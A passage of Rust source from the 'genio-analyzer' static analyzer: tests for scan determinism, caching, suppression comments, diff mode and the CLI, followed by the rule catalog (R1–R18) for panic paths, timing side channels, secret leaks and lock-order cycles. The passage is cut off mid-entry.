        "splice must move the report"
    );
    assert!(
        rebased.findings.iter().any(|f| f.function == "legacy_stage"),
        "modified-file splice content must be scanned"
    );
    assert!(
        rebased.findings.iter().any(|f| f.file.ends_with("legacy.rs")),
        "deleted-since-base file must be synthesized back in"
    );
    assert!(
        !rebased.findings.iter().any(|f| f.file.ends_with("session.rs")),
        "added-since-base file must be absent from the base report"
    );
}

#[test]
fn rescan_with_empty_splice_reproduces_the_live_report() {
    let root = fixture_root();
    let opts = ScanOptions::default();
    let (current, _, snapshot) = scan_snapshot(&root, &opts).expect("live scan");
    let rebased = rescan_with_base(&snapshot, &opts, &[]);
    assert_eq!(
        current.to_json().to_string(),
        rebased.to_json().to_string(),
        "all-reused rebase must reproduce the live report"
    );
}
