//! Determinism properties of the v2 scan pipeline: the report must be a
//! pure function of the workspace contents — independent of the cache
//! state and of the worker-thread count.

use std::fs;
use std::path::{Path, PathBuf};

use genio_analyzer::workspace::{scan_with, ScanOptions};

fn fixture_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/miniws")
}

/// Fresh scratch dir under the target tmpdir, wiped per test.
fn scratch(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join("genio-analyzer-tests").join(name);
    let _ = fs::remove_dir_all(&dir);
    fs::create_dir_all(&dir).expect("scratch dir");
    dir
}

fn copy_tree(from: &Path, to: &Path) {
    fs::create_dir_all(to).expect("mkdir");
    for entry in fs::read_dir(from).expect("readdir") {
        let entry = entry.expect("entry");
        let src = entry.path();
        let dst = to.join(entry.file_name());
        if src.is_dir() {
            copy_tree(&src, &dst);
        } else {
            fs::copy(&src, &dst).expect("copy");
        }
    }
}

#[test]
fn warm_scan_is_byte_identical_to_cold() {
    let dir = scratch("warm-vs-cold");
    let cache = dir.join("cache.json");
    let opts = ScanOptions {
        cache_path: Some(cache.clone()),
        ..ScanOptions::default()
    };

    let (cold, cold_stats) = scan_with(&fixture_root(), &opts).expect("cold scan");
    assert_eq!(cold_stats.cache_hits, 0, "first scan must miss everything");
    assert!(cache.is_file(), "cold scan writes the cache");

    let (warm, warm_stats) = scan_with(&fixture_root(), &opts).expect("warm scan");
    assert_eq!(warm_stats.cache_misses, 0, "second scan must hit everything");
    assert_eq!(warm_stats.cache_hits, cold_stats.cache_misses);

    assert_eq!(
        cold.to_json().to_string(),
        warm.to_json().to_string(),
        "cache state leaked into the report"
    );
}

#[test]
fn uncached_and_cached_reports_agree() {
    let dir = scratch("cached-vs-uncached");
    let cached_opts = ScanOptions {
        cache_path: Some(dir.join("cache.json")),
        ..ScanOptions::default()
    };
    let (plain, _) =
        scan_with(&fixture_root(), &ScanOptions::default()).expect("uncached");
    let (cached, _) = scan_with(&fixture_root(), &cached_opts).expect("cached");
    assert_eq!(plain.to_json().to_string(), cached.to_json().to_string());
}

#[test]
fn thread_counts_do_not_change_the_report() {
    let baseline = scan_with(
        &fixture_root(),
        &ScanOptions { threads: 1, ..ScanOptions::default() },
    )
    .expect("serial")
    .0
    .to_json()
    .to_string();
    for threads in [2, 3, 8] {
        let (report, stats) = scan_with(
            &fixture_root(),
            &ScanOptions { threads, ..ScanOptions::default() },
        )
        .expect("parallel");
        assert!(stats.threads >= 1 && stats.threads <= threads);
        assert_eq!(
            report.to_json().to_string(),
            baseline,
            "thread count {threads} changed the report"
        );
    }
}

#[test]
fn editing_a_file_invalidates_exactly_that_entry() {
    let dir = scratch("invalidation");
    let ws = dir.join("ws");
    copy_tree(&fixture_root(), &ws);
    let opts = ScanOptions {
        cache_path: Some(dir.join("cache.json")),
        ..ScanOptions::default()
    };

    let (before, _) = scan_with(&ws, &opts).expect("initial scan");

    // Appending a debt marker to one file must cost exactly one cache
    // miss and exactly one new R6 finding.
    let target = ws.join("crates/demo/src/ops.rs");
    let mut text = fs::read_to_string(&target).expect("read fixture");
    text.push_str("\n// FIXME: cache-invalidation probe\n");
    fs::write(&target, text).expect("write fixture");

    let (after, stats) = scan_with(&ws, &opts).expect("rescan");
    assert_eq!(stats.cache_misses, 1, "only the edited file rescans");
    assert_eq!(stats.cache_hits, before.files - 1);
    assert_eq!(after.findings.len(), before.findings.len() + 1);

    // Reverting restores the original report through the cache.
    copy_tree(&fixture_root(), &ws);
    let (reverted, _) = scan_with(&ws, &opts).expect("reverted scan");
    assert_eq!(
        reverted.to_json().to_string(),
        before.to_json().to_string()
    );
}

#[test]
fn stale_rules_version_invalidates_the_whole_cache() {
    let dir = scratch("stale-rules");
    let cache = dir.join("cache.json");
    let opts = ScanOptions {
        cache_path: Some(cache.clone()),
        ..ScanOptions::default()
    };
    let (clean, seed_stats) = scan_with(&fixture_root(), &opts).expect("seed scan");

    // Simulate a cache written by an analyzer binary with a different
    // rule set: flip the recorded rules_version hash in place.
    let text = fs::read_to_string(&cache).expect("read cache");
    let version = format!("{:016x}", genio_analyzer::rules::rules_version());
    assert!(
        text.contains(&version),
        "cache must record the rule-set version"
    );
    let flipped: String = version
        .chars()
        .map(|c| if c == '0' { '1' } else { '0' })
        .collect();
    fs::write(&cache, text.replace(&version, &flipped)).expect("rewrite cache");

    let (rescanned, stats) = scan_with(&fixture_root(), &opts).expect("rescan");
    assert_eq!(stats.cache_hits, 0, "old-rules cache must not serve hits");
    assert_eq!(stats.cache_misses, seed_stats.cache_misses);
    assert_eq!(
        rescanned.to_json().to_string(),
        clean.to_json().to_string()
    );

    // The rescan rewrote the cache under the current version: unchanged
    // files hit again.
    let (_, warm_stats) = scan_with(&fixture_root(), &opts).expect("warm");
    assert_eq!(warm_stats.cache_misses, 0, "repaired cache serves all hits");
}

#[test]
fn corrupt_cache_degrades_to_full_rescan() {
    let dir = scratch("corrupt");
    let cache = dir.join("cache.json");
    let opts = ScanOptions {
        cache_path: Some(cache.clone()),
        ..ScanOptions::default()
    };
    let (clean, _) = scan_with(&fixture_root(), &opts).expect("seed scan");

    fs::write(&cache, "{ definitely not a cache }").expect("corrupt");
    let (recovered, stats) = scan_with(&fixture_root(), &opts).expect("recover");
    assert_eq!(stats.cache_hits, 0, "corrupt cache must not serve hits");
    assert_eq!(
        recovered.to_json().to_string(),
        clean.to_json().to_string()
    );
}
