//! Property tests for the `// genio-analyzer: allow(...)` suppression:
//! a comment silences findings on its own line and the next line of the
//! *same file* — never any other line, never another file, and never a
//! rule it does not name.

use std::fs;
use std::path::PathBuf;

use genio_analyzer::rules::Rule;
use genio_analyzer::workspace;

/// Builds a throwaway workspace with one `conc` crate whose lib.rs is
/// `body`, scans it, and returns the (rule, function, line) triples.
fn scan_snippet(name: &str, body: &str) -> Vec<(Rule, String, u32)> {
    let dir = std::env::temp_dir()
        .join("genio-analyzer-suppression")
        .join(name);
    let _ = fs::remove_dir_all(&dir);
    let src = dir.join("crates/conc/src");
    fs::create_dir_all(&src).expect("mkdir");
    fs::write(dir.join("Cargo.toml"), "[workspace]\nmembers = []\n").expect("toml");
    fs::write(
        src.join("lib.rs"),
        format!("#![forbid(unsafe_code)]\n{body}"),
    )
    .expect("lib.rs");
    let report = workspace::scan(&dir).expect("scan");
    report
        .findings
        .iter()
        .map(|f| (f.rule, f.function.clone(), f.line))
        .collect()
}

/// The R14 pair used throughout: a Relaxed publish plus a Relaxed spin
/// read — two findings, one per function, on known lines.
const FLAG_PAIR: &str = "pub fn publish(ready: &AtomicBool) {\n\
                         \x20   ready.store(true, Ordering::Relaxed);\n\
                         }\n\
                         pub fn wait(ready: &AtomicBool) {\n\
                         \x20   while !ready.load(Ordering::Relaxed) {}\n\
                         }\n";

#[test]
fn unsuppressed_snippet_reports_both_sites() {
    let found = scan_snippet("baseline", FLAG_PAIR);
    assert_eq!(found.len(), 2, "expected both R14 sites: {found:?}");
}

#[test]
fn standalone_comment_covers_only_the_next_line() {
    // Annotating the publish site must leave the spin read flagged.
    let body = FLAG_PAIR.replacen(
        "    ready.store",
        "    // genio-analyzer: allow(R14, reason = \"probe\")\n    ready.store",
        1,
    );
    let found = scan_snippet("next-line", &body);
    assert_eq!(found.len(), 1, "only the annotated line is silenced: {found:?}");
    assert_eq!(found[0].1, "wait");
}

#[test]
fn trailing_comment_covers_its_own_line() {
    let body = FLAG_PAIR.replacen(
        "Ordering::Relaxed);",
        "Ordering::Relaxed); // genio-analyzer: allow(R14, reason = \"probe\")",
        1,
    );
    let found = scan_snippet("same-line", &body);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].1, "wait");
}

#[test]
fn suppression_never_leaks_to_other_lines() {
    // Sweep the annotation across every line of the snippet: for each
    // placement, the only findings that may disappear are those on the
    // comment's line or the line after it.
    let unsuppressed = scan_snippet("sweep-base", FLAG_PAIR);
    let total_lines = FLAG_PAIR.lines().count() as u32 + 1;
    for at in 1..=total_lines {
        // Insert the comment as its own line before line `at` of the
        // final file (line 1 is the forbid attribute added by the
        // helper).
        let mut lines: Vec<String> = format!("#![forbid(unsafe_code)]\n{FLAG_PAIR}")
            .lines()
            .map(str::to_string)
            .collect();
        let idx = (at as usize - 1).min(lines.len());
        lines.insert(idx, "// genio-analyzer: allow(R14, reason = \"sweep\")".to_string());
        let body = lines[1..].join("\n");
        let found = scan_snippet(&format!("sweep-{at}"), &body);

        for (rule, function, line) in &unsuppressed {
            // Where did this finding move to after the insertion?
            let new_line = if *line >= at { line + 1 } else { *line };
            let survives = found
                .iter()
                .any(|(r, f, l)| r == rule && f == function && *l == new_line);
            let covered = new_line == at || new_line == at + 1;
            assert_eq!(
                survives, !covered,
                "comment at line {at}: finding {function}:{new_line} \
                 {}expected to survive",
                if covered { "not " } else { "" }
            );
        }
    }
}

#[test]
fn suppression_never_crosses_files() {
    // Identical flag code in two files; the allow sits only in a.rs.
    let dir = std::env::temp_dir()
        .join("genio-analyzer-suppression")
        .join("cross-file");
    let _ = fs::remove_dir_all(&dir);
    let src: PathBuf = dir.join("crates/conc/src");
    fs::create_dir_all(&src).expect("mkdir");
    fs::write(dir.join("Cargo.toml"), "[workspace]\nmembers = []\n").expect("toml");
    fs::write(src.join("lib.rs"), "#![forbid(unsafe_code)]\nmod a;\nmod b;\n")
        .expect("lib.rs");
    fs::write(
        src.join("a.rs"),
        "// genio-analyzer: allow(R14, reason = \"local to a.rs\")\n\
         pub fn publish_a(ready_a: &AtomicBool) { ready_a.store(true, Ordering::Relaxed); }\n\
         pub fn wait_a(ready_a: &AtomicBool) { while !ready_a.load(Ordering::Relaxed) {} }\n",
    )
    .expect("a.rs");
    fs::write(
        src.join("b.rs"),
        "pub fn publish_b(ready_b: &AtomicBool) { ready_b.store(true, Ordering::Relaxed); }\n\
         pub fn wait_b(ready_b: &AtomicBool) { while !ready_b.load(Ordering::Relaxed) {} }\n",
    )
    .expect("b.rs");

    let report = workspace::scan(&dir).expect("scan");
    let fns: Vec<&str> = report.findings.iter().map(|f| f.function.as_str()).collect();
    assert!(!fns.contains(&"publish_a"), "covered by the allow: {fns:?}");
    assert!(fns.contains(&"wait_a"), "a.rs line 3 is not covered: {fns:?}");
    assert!(fns.contains(&"publish_b"), "b.rs must be untouched: {fns:?}");
    assert!(fns.contains(&"wait_b"), "b.rs must be untouched: {fns:?}");
    assert_eq!(report.allowed, 1);
}

/// Builds a throwaway workspace whose single crate is named `name_of`
/// (R17 needs a secret-typed crate, so `netsec`), returning its root.
fn build_ws(name: &str, crate_name: &str, lib_rs: &str) -> PathBuf {
    let dir = std::env::temp_dir()
        .join("genio-analyzer-suppression")
        .join(name);
    let _ = fs::remove_dir_all(&dir);
    let src = dir.join("crates").join(crate_name).join("src");
    fs::create_dir_all(&src).expect("mkdir");
    fs::write(dir.join("Cargo.toml"), "[workspace]\nmembers = []\n").expect("toml");
    fs::write(src.join("lib.rs"), format!("#![forbid(unsafe_code)]\n{lib_rs}"))
        .expect("lib.rs");
    dir
}

const R16_PAIR: &str = "pub fn seal_many(x: Option<u8>, y: Option<u8>) -> u8 {\n\
                        \x20   helper(x) + other(y)\n\
                        }\n\
                        fn helper(x: Option<u8>) -> u8 {\n\
                        \x20   x.unwrap()\n\
                        }\n\
                        fn other(y: Option<u8>) -> u8 {\n\
                        \x20   y.unwrap()\n\
                        }\n";

#[test]
fn allow_r16_covers_one_reachable_site_not_the_other() {
    let dir = build_ws("r16-base", "crypto", R16_PAIR);
    let report = workspace::scan(&dir).expect("scan");
    let r16: Vec<&str> = report
        .findings
        .iter()
        .filter(|f| f.rule == Rule::R16PanicReachable)
        .map(|f| f.function.as_str())
        .collect();
    assert_eq!(r16, ["helper", "other"], "both closure sites flag");

    let annotated = R16_PAIR.replacen(
        "\x20   x.unwrap()",
        "\x20   // genio-analyzer: allow(R16, reason = \"caller checks\")\n\
         \x20   x.unwrap()",
        1,
    );
    let dir = build_ws("r16-allow", "crypto", &annotated);
    let report = workspace::scan(&dir).expect("scan");
    let r16: Vec<&str> = report
        .findings
        .iter()
        .filter(|f| f.rule == Rule::R16PanicReachable)
        .map(|f| f.function.as_str())
        .collect();
    assert_eq!(r16, ["other"], "only the annotated site is silenced");
    // The co-located R1 finding names a different rule and must survive.
    assert!(report
        .findings
        .iter()
        .any(|f| f.rule == Rule::R1PanicPath && f.function == "helper"));
}

const R17_ESCAPE: &str = "pub struct SessionKey([u8; 32]);\n\
                          pub fn retain(cache: &mut Vec<SessionKey>, key: SessionKey) {\n\
                          \x20   cache.push(key);\n\
                          }\n";

#[test]
fn allow_r17_silences_the_escape_on_its_line_only() {
    let dir = build_ws("r17-base", "netsec", R17_ESCAPE);
    let report = workspace::scan(&dir).expect("scan");
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.rule == Rule::R17SecretLifecycle && f.function == "retain"),
        "escape must flag without an allow: {:?}",
        report.findings
    );

    let annotated = R17_ESCAPE.replacen(
        "\x20   cache.push(key);",
        "\x20   // genio-analyzer: allow(R17, reason = \"bounded session cache\")\n\
         \x20   cache.push(key);",
        1,
    );
    let dir = build_ws("r17-allow", "netsec", &annotated);
    let report = workspace::scan(&dir).expect("scan");
    assert!(
        !report
            .findings
            .iter()
            .any(|f| f.rule == Rule::R17SecretLifecycle),
        "annotated escape must be silenced: {:?}",
        report.findings
    );
    assert_eq!(report.allowed, 1);
}

#[test]
fn diff_mode_respects_suppressions_and_sees_through_their_absence() {
    use genio_analyzer::diff::diff_scan;
    use genio_analyzer::workspace::ScanOptions;

    // The change introduces a reachable unwrap... under an allow. The
    // base revision had a clean placeholder. The diff must be empty —
    // a suppressed finding may never "reappear" as introduced.
    let clean_base = Some("#![forbid(unsafe_code)]\npub fn seal_many() {}\n".to_string());
    let rel = "crates/crypto/src/lib.rs".to_string();
    let suppressed = R16_PAIR
        .replacen(
            "\x20   x.unwrap()",
            "\x20   // genio-analyzer: allow(R1, R16, reason = \"caller checks\")\n\
             \x20   x.unwrap()",
            1,
        )
        .replacen(
            "\x20   y.unwrap()",
            "\x20   // genio-analyzer: allow(R1, R16, reason = \"caller checks\")\n\
             \x20   y.unwrap()",
            1,
        );
    let dir = build_ws("diff-suppressed", "crypto", &suppressed);
    let opts = ScanOptions::default();
    let d = diff_scan(&dir, &opts, "base", &[(rel.clone(), clean_base.clone())])
        .expect("diff scan");
    assert!(
        d.findings.is_empty(),
        "suppressed findings leaked into the diff: {:?}",
        d.findings
    );

    // Same change without the allows: the diff must report the sites.
    let dir = build_ws("diff-unsuppressed", "crypto", R16_PAIR);
    let d = diff_scan(&dir, &opts, "base", &[(rel, clean_base)]).expect("diff scan");
    assert!(
        d.findings.iter().any(|f| f.rule == Rule::R16PanicReachable),
        "unsuppressed introduction must surface: {:?}",
        d.findings
    );
}

#[test]
fn unknown_rule_or_missing_reason_leaves_the_comment_inert() {
    for (name, comment) in [
        ("unknown-rule", "// genio-analyzer: allow(R99, reason = \"nope\")"),
        ("missing-reason", "// genio-analyzer: allow(R14)"),
        ("empty-reason", "// genio-analyzer: allow(R14, reason = \"\")"),
    ] {
        let body = FLAG_PAIR.replacen(
            "    ready.store",
            &format!("    {comment}\n    ready.store"),
            1,
        );
        let found = scan_snippet(name, &body);
        assert_eq!(found.len(), 2, "{name}: malformed allow must not suppress");
    }
}
