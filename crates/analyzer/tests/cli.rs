//! Smoke tests for the CLI surface added in v3: `--rules`, `--explain`
//! and `--expect`, driven against the committed miniws fixture corpus.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn fixture_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/miniws")
}

fn run(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_genio-analyzer"))
        .args(args)
        .output()
        .expect("spawn genio-analyzer")
}

fn scan_args(extra: &[&str]) -> Vec<String> {
    let root = fixture_root();
    let mut args = vec![
        "--root".to_string(),
        root.display().to_string(),
        "--no-cache".to_string(),
        "--baseline".to_string(),
        "/dev/null".to_string(),
        "--findings".to_string(),
    ];
    args.extend(extra.iter().map(|s| s.to_string()));
    args
}

#[test]
fn rules_filter_restricts_the_report() {
    let args = scan_args(&["--rules", "R10,R13"]);
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = run(&argv);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("[R10]"), "R10 selected:\n{stdout}");
    assert!(stdout.contains("[R13]"), "R13 selected:\n{stdout}");
    for unselected in ["[R1]", "[R8]", "[R11]", "[R12]", "[R14]"] {
        assert!(
            !stdout.contains(unselected),
            "{unselected} must be filtered out:\n{stdout}"
        );
    }
    // 4 R10 + 4 R13.
    assert!(stdout.contains("total findings: 8"), "{stdout}");
}

#[test]
fn rules_filter_rejects_unknown_ids() {
    let args = scan_args(&["--rules", "R10,R99"]);
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = run(&argv);
    assert_eq!(out.status.code(), Some(2), "unknown rule id is a usage error");
}

#[test]
fn explain_prints_the_catalog_entry() {
    let out = run(&["--explain", "R10"]);
    assert!(out.status.success());
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("R10"), "{stdout}");
    assert!(
        stdout.contains("branch condition depends on secret material"),
        "title line missing:\n{stdout}"
    );
    assert!(stdout.len() > 200, "catalog entry should explain, not name");

    let bad = run(&["--explain", "R99"]);
    assert_eq!(bad.status.code(), Some(2));
}

#[test]
fn expect_gate_passes_on_the_committed_list_and_fails_on_a_tampered_one() {
    let expected = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/miniws-expected.txt");
    let args = scan_args(&["--expect", &expected.display().to_string()]);
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = run(&argv);
    assert!(
        out.status.success(),
        "committed expectations must hold:\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );

    // Removing one line must flip the gate to exit 1 and name the line.
    let text = std::fs::read_to_string(&expected).expect("read expectations");
    let victim = text
        .lines()
        .find(|l| l.starts_with("R13"))
        .expect("an R13 expectation");
    let tampered_path = std::env::temp_dir()
        .join("genio-analyzer-tests")
        .join("tampered-expected.txt");
    std::fs::create_dir_all(tampered_path.parent().unwrap()).expect("mkdir");
    std::fs::write(&tampered_path, text.replace(victim, "")).expect("write");

    let args = scan_args(&["--expect", &tampered_path.display().to_string()]);
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = run(&argv);
    assert_eq!(out.status.code(), Some(1), "tampered list must fail");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("unexpected: R13"), "{stderr}");
}
