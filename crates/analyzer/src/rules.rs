//! Security/correctness rules over the token stream.
//!
//! Nine rules, mirroring the failure classes Lesson 7 calls out for
//! immature SAST on custom stacks. R1–R7 are *lexical* checks (fast, no
//! type information) whose parser-facing classes (R4, R5) are then
//! confirmed through the `genio_appsec::sast` taint engine by
//! [`crate::bridge`] and re-examined across function boundaries by
//! [`crate::dataflow`]; R8 and R9 are *interprocedural* rules evaluated
//! entirely in [`crate::dataflow`] over the workspace call graph built
//! from [`crate::summary`] records:
//!
//! * **R1** `unwrap`/`expect`/`panic!`/`unreachable!`/`todo!` in
//!   non-test library code — abort paths a production service must not
//!   keep.
//! * **R2** `==`/`!=` on secret material (tags, MACs, digests, keys) in
//!   `crates/crypto` and `crates/netsec` — must go through
//!   `genio_crypto::ct::eq`.
//! * **R3** crate roots missing `#![forbid(unsafe_code)]`.
//! * **R4** narrowing `as` casts (to ≤32-bit integers) inside the
//!   frame/feed parser crates (`pon`, `netsec`, `vulnmgmt`).
//! * **R5** dynamic slice indexing with no preceding bounds guard
//!   (`x.len()` / `x.get(..)` seen earlier in the same function) in the
//!   AEAD/frame hot paths.
//! * **R6** debt markers (to-do / fix-me style) left in comments.
//! * **R7** raw `Instant::now()` / `SystemTime::now()` outside the
//!   telemetry clock abstraction — timing must route through
//!   `genio_telemetry::Clock` so tests stay deterministic.
//! * **R8** secret material (key/tag/nonce-typed values from `crypto` /
//!   `netsec`) reaching a `format!`/`Debug`/telemetry-export sink,
//!   directly or through one bare-argument call hop.
//! * **R9** a `Result` returned by a security-critical crate discarded
//!   via `let _ =` or a bare `call();` statement.
//! * **R10** a branch condition (`if`/`match`/`while`) that depends on
//!   secret material — directly, or one call hop away through a callee
//!   that branches on the passed parameter ([`crate::sidechannel`]).
//! * **R11** secret material driving a slice/array index — the classic
//!   table-lookup timing leak ([`crate::sidechannel`]).
//! * **R12** a variable-time operation (`/`, `%`, early-exit `==`/`!=`)
//!   on secret material outside `ct::eq` ([`crate::sidechannel`]).
//! * **R13** a lock-order cycle in the workspace lock-acquisition graph,
//!   built from guard scopes and propagated across calls
//!   ([`crate::concurrency`]).
//! * **R14** `Ordering::Relaxed` on an atomic that some function reads
//!   in a control-flow condition — a sync flag, not a pure counter
//!   ([`crate::concurrency`]).
//! * **R15** a telemetry span guard dropped at its creation site —
//!   `let _ = t.span(..)` or a bare `t.span(..);` / `span!(..);`
//!   statement — which records a zero-length span instead of timing the
//!   scope.
//!
//! Rules only ever *add* findings; what is acceptable today is recorded
//! in the committed baseline and ratcheted down by
//! [`crate::baseline::diff`]. Deliberate sites are suppressed in place
//! with `// genio-analyzer: allow(R11, reason = "...")` (see [`Allow`]).

use crate::lexer::{Token, TokenKind};

/// Rule identifiers, stable across releases (they key the baseline).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Rule {
    /// Abort path in library code.
    R1PanicPath,
    /// Non-constant-time comparison of secret material.
    R2NonCtCompare,
    /// Crate root missing `#![forbid(unsafe_code)]`.
    R3MissingForbid,
    /// Narrowing integer cast in a parser crate.
    R4NarrowingCast,
    /// Unguarded dynamic slice index in an AEAD/frame hot path.
    R5UnguardedIndex,
    /// Debt marker in a comment.
    R6DebtMarker,
    /// Raw OS timing call outside the telemetry clock abstraction.
    R7RawTiming,
    /// Secret material reaching a format/Debug/telemetry-export sink.
    R8SecretLeak,
    /// Discarded `Result` from a security-critical crate.
    R9DiscardedResult,
    /// Branch condition depends on secret material.
    R10SecretBranch,
    /// Secret material drives a slice/array index.
    R11SecretIndex,
    /// Variable-time operation on secret material.
    R12VariableTimeOp,
    /// Lock-order cycle across the workspace lock graph.
    R13LockOrderCycle,
    /// `Ordering::Relaxed` on a condition-read atomic.
    R14RelaxedSyncFlag,
    /// Telemetry span guard dropped at its creation site.
    R15DroppedSpan,
    /// Panic/abort site reachable from a declared hot-path entry point.
    R16PanicReachable,
    /// Secret material escaping its lifecycle (collection escape or
    /// missing zeroize in a teardown path).
    R17SecretLifecycle,
    /// Diff-aware incremental scanning family (`--diff`/SARIF export);
    /// never fires on a full scan, but keys the diff report and the
    /// rule-set version.
    R18DiffAware,
}

impl Rule {
    /// Short stable id used in reports and baselines.
    pub fn id(self) -> &'static str {
        match self {
            Rule::R1PanicPath => "R1",
            Rule::R2NonCtCompare => "R2",
            Rule::R3MissingForbid => "R3",
            Rule::R4NarrowingCast => "R4",
            Rule::R5UnguardedIndex => "R5",
            Rule::R6DebtMarker => "R6",
            Rule::R7RawTiming => "R7",
            Rule::R8SecretLeak => "R8",
            Rule::R9DiscardedResult => "R9",
            Rule::R10SecretBranch => "R10",
            Rule::R11SecretIndex => "R11",
            Rule::R12VariableTimeOp => "R12",
            Rule::R13LockOrderCycle => "R13",
            Rule::R14RelaxedSyncFlag => "R14",
            Rule::R15DroppedSpan => "R15",
            Rule::R16PanicReachable => "R16",
            Rule::R17SecretLifecycle => "R17",
            Rule::R18DiffAware => "R18",
        }
    }

    /// Parses the short id back (baseline loading).
    pub fn from_id(id: &str) -> Option<Rule> {
        Some(match id {
            "R1" => Rule::R1PanicPath,
            "R2" => Rule::R2NonCtCompare,
            "R3" => Rule::R3MissingForbid,
            "R4" => Rule::R4NarrowingCast,
            "R5" => Rule::R5UnguardedIndex,
            "R6" => Rule::R6DebtMarker,
            "R7" => Rule::R7RawTiming,
            "R8" => Rule::R8SecretLeak,
            "R9" => Rule::R9DiscardedResult,
            "R10" => Rule::R10SecretBranch,
            "R11" => Rule::R11SecretIndex,
            "R12" => Rule::R12VariableTimeOp,
            "R13" => Rule::R13LockOrderCycle,
            "R14" => Rule::R14RelaxedSyncFlag,
            "R15" => Rule::R15DroppedSpan,
            "R16" => Rule::R16PanicReachable,
            "R17" => Rule::R17SecretLifecycle,
            "R18" => Rule::R18DiffAware,
            _ => return None,
        })
    }

    /// All rules, report order.
    pub const ALL: [Rule; 18] = [
        Rule::R1PanicPath,
        Rule::R2NonCtCompare,
        Rule::R3MissingForbid,
        Rule::R4NarrowingCast,
        Rule::R5UnguardedIndex,
        Rule::R6DebtMarker,
        Rule::R7RawTiming,
        Rule::R8SecretLeak,
        Rule::R9DiscardedResult,
        Rule::R10SecretBranch,
        Rule::R11SecretIndex,
        Rule::R12VariableTimeOp,
        Rule::R13LockOrderCycle,
        Rule::R14RelaxedSyncFlag,
        Rule::R15DroppedSpan,
        Rule::R16PanicReachable,
        Rule::R17SecretLifecycle,
        Rule::R18DiffAware,
    ];

    /// One-line description for the report table.
    pub fn title(self) -> &'static str {
        match self {
            Rule::R1PanicPath => "abort path (unwrap/expect/panic!) in library code",
            Rule::R2NonCtCompare => "secret material compared with ==/!= instead of ct::eq",
            Rule::R3MissingForbid => "crate root missing #![forbid(unsafe_code)]",
            Rule::R4NarrowingCast => "narrowing `as` cast in frame/feed parser",
            Rule::R5UnguardedIndex => "slice index without preceding bounds guard in hot path",
            Rule::R6DebtMarker => "TODO/FIXME debt marker",
            Rule::R7RawTiming => "raw Instant/SystemTime timing outside the telemetry clock",
            Rule::R8SecretLeak => "secret material reaches a format/Debug/telemetry sink",
            Rule::R9DiscardedResult => "Result from a security-critical crate is discarded",
            Rule::R10SecretBranch => "branch condition depends on secret material",
            Rule::R11SecretIndex => "secret material drives a slice/array index",
            Rule::R12VariableTimeOp => "variable-time operation (/ % == !=) on secret material",
            Rule::R13LockOrderCycle => "lock-order cycle across the workspace lock graph",
            Rule::R14RelaxedSyncFlag => "Ordering::Relaxed on an atomic read in a branch condition",
            Rule::R15DroppedSpan => "telemetry span guard dropped at its creation site",
            Rule::R16PanicReachable => "panic/abort site reachable from a hot-path entry point",
            Rule::R17SecretLifecycle => "secret escapes its lifecycle (collection escape / missing zeroize)",
            Rule::R18DiffAware => "diff-aware incremental scan family (--diff / SARIF export)",
        }
    }

    /// Full catalog entry for `--explain`: what the rule detects, why it
    /// matters at the telco edge, and how to fix or suppress a finding.
    pub fn explain(self) -> &'static str {
        match self {
            Rule::R1PanicPath => "R1 flags abort paths (`unwrap`, `expect`, `panic!`, \
`unreachable!`, `todo!`, `unimplemented!`) in non-test library code. An edge service \
must degrade, not die: every abort path is a remotely reachable crash. Fix: return a \
typed error (`Result`), use `unwrap_or`/`ok_or`, or restructure so the state is \
impossible. Test code (`#[cfg(test)]`, `#[test]`) is never flagged.",
            Rule::R2NonCtCompare => "R2 flags `==`/`!=` on secret-named values (tag, \
icv, mac, digest, key, secret, password, finished) inside `crates/crypto` and \
`crates/netsec`. Short-circuit comparison leaks the first differing byte's position \
through timing — an oracle for forging MACs. Fix: compare through \
`genio_crypto::ct::eq`, which accumulates the difference over the full length. \
`.len()` comparisons are public and stay silent.",
            Rule::R3MissingForbid => "R3 flags crate roots missing \
`#![forbid(unsafe_code)]`. The workspace is safe-Rust by policy; `forbid` (unlike \
`deny`) cannot be overridden downstream, so one line per crate turns the policy into \
a compiler guarantee. Fix: add the attribute to `src/lib.rs`/`src/main.rs`.",
            Rule::R4NarrowingCast => "R4 flags narrowing `as` casts (to <= 32-bit \
integers) in the frame/feed parser crates (`pon`, `netsec`, `vulnmgmt`). `as` \
silently truncates attacker-controlled lengths and identifiers — the classic \
packet-parser bug. Fix: use `try_from` with an error path, or mask explicitly when \
truncation is the intent. The sast bridge confirms which casts are reachable from \
parser entry points.",
            Rule::R5UnguardedIndex => "R5 flags dynamic slice indexing with no \
dominating bounds guard (`x.len()`, `x.get(..)`, a `< len` comparison, or a \
literal-bounded loop) in the AEAD/frame hot-path files. Each unguarded index is a \
reachable panic on a malformed frame. Fix: guard first, use `get`, or iterate. The \
interprocedural pass discharges accesses whose callers all guard or pass literals.",
            Rule::R6DebtMarker => "R6 counts TODO/FIXME/XXX/HACK comments. Debt \
markers are fine while working but must burn down, not accumulate: the ratchet \
baseline only shrinks. Fix: do the thing, file it properly, or delete the marker.",
            Rule::R7RawTiming => "R7 flags raw `Instant::now()` / \
`SystemTime::now()` outside the telemetry clock abstraction. Direct OS-clock reads \
make simulations and tests nondeterministic and escape span accounting. Fix: take a \
`genio_telemetry::Clock` (Monotonic in production, Manual in tests).",
            Rule::R8SecretLeak => "R8 flags secret-typed values (Key, Tag, Nonce, \
Secret, Mac, ... types from `crypto`/`netsec`) reaching a `format!`/`Debug`/\
